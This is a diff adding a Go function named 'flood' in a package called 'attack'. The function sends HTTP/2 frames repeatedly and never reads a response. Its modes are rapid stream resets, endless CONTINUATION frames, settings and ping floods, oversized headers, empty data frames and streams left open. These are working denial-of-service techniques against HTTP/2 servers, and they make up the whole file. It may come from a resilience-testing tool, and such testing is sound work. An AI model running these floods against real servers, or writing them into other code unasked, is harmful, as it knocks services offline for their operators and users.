@@ -1,0 +1,51 @@
+package attack
+
+import (
+	"encoding/binary"
+	"strings"
+)
+
+// flood writes frames, and reads nothing.
+func (c *conn) flood(g *Clients, to *address, first int) (sent bool) {
+	text := ""
+	if len(g.Send) > 0 {
+		text = g.Send[0].text(to, first)
+	}
+	for k := range max(g.Times, 1) {
+		var out []byte
+		switch g.Flood {
+		case Resets:
+			opens, id, body, _ := c.h2.open(text)
+			piece, _ := dataFrame(id, body)
+			out = append(append(opens, piece...), frame(frameReset, 0, id, binary.BigEndian.AppendUint32(nil, 8))...)
+		case Continuations:
+			if k == 0 {
+				c.h2.last += 2
+				header, _, _ := request2(text)
+				out = frame(frameHeaders, 0, c.h2.last-1, header)
+			}
+			out = append(out, frame(frameContinuation, 0, c.h2.last-1, field(nil, "x", strings.Repeat("x", 8<<10)))...)
+		case ManySettings:
+			out = []byte(settings(settingWindow, uint32(k)&0xffff, settingFrame, 16<<10))
+		case Pings:
+			out = frame(framePing, 0, 0, make([]byte, 8))
+		case LargeHeader:
+			out, _, _, _ = c.h2.open(strings.Replace(text, "\r\n", "\r\nX-Large: "+long(1<<20)+"\r\n", 1))
+		case EmptyData:
+			if k == 0 {
+				c.h2.last += 2
+				header, _, _ := request2(text)
+				out = frame(frameHeaders, endHeaders, c.h2.last-1, header)
+			}
+			out = append(out, frame(frameData, 0, c.h2.last-1, nil)...)
+		case OpenHeaders:
+			c.h2.last += 2
+			header, _, _ := request2(text)
+			out = frame(frameHeaders, endHeaders, c.h2.last-1, header)
+		}
+		if _, err := c.Write(out); err != nil {
+			return false
+		}
+	}
+	return true
+}
